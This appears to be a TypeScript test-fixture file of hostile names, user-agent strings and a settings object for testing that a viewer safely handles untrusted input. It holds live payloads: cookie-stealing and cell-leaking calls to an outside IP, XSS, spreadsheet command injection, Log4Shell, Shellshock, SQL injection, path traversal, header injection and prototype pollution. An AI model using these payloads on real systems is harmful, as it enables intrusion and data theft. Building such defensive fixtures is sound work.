/** Names a careless viewer would run, render, reorder or choke on. Well-formed JSON, all of them. */
export const hostileNames: readonly string[] = [
  '<img src=x onerror="alert(document.domain)">',
  '<script>window.api.request("tenant.erase")</script>',
  '=HYPERLINK("http://198.51.100.7/?leak="&A1,"Click")',
  "+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|'/C notepad'!A1",
  'nimdA\u202Egnp.exe',
  '\u2066Admin\u2069 \u200Bzero\u200C\u200Dwidth\uFEFF',
  'Robert"); DROP TABLE entries;--',
  'Line one\nLine two\r\nLine three\tTabbed',
  'NUL \u0000 bell \u0007 escape \u001b[31mred\u001b[0m',
  '👩🏽‍🚀 Zoë Ångström-Łukasiewicz 🇩🇪',
  '{{constructor.constructor("return process")().exit()}}',
  'Ｆｕｌｌ　Ｗｉｄｔｈ ＝1＋1',
  `A very long name ${'and it goes on '.repeat(120)}to the end`,
  'Z̸̢̛͎̤͔̻a͖̟l̶͍g̴͉o̵ ̷t̴e̵x̶t̶',
  'O\'Brien \\ "quoted" `ticks` ${template}',
  '../../../../etc/passwd',
  // eslint-disable-next-line no-script-url -- hostile on purpose
  'javascript:alert(1)//https://evil.example/%00',
]

export const hostileAgents: readonly string[] = [
  '<svg/onload=fetch("//198.51.100.7/"+document.cookie)>',
  "=cmd|'/C powershell -enc SQBFAFgA'!A0",
  '${jndi:ldap://198.51.100.7:1389/a}',
  'Mozilla/5.0 \u202E(moc.elgoog)\u202C \u0000\u0008 Safari/604.1',
  '() { :;}; /bin/bash -c "id"',
  `Mozilla/5.0 ${'(X11; Linux) '.repeat(300)}`,
  '\ud83d half a pair',
  '-1+1|calc\r\nSet-Cookie: session=1',
]

/** A nested settings object whose keys attack whoever merges it carelessly. */
export function hostileSettings(): Record<string, unknown> {
  return JSON.parse(
    '{"__proto__":{"isAdmin":true},"constructor":{"prototype":{"polluted":1}},"toString":"<b>x</b>","labels":{"=1+1":"\\u202Etxt.exe","":"empty key"}}',
  ) as Record<string, unknown>
}
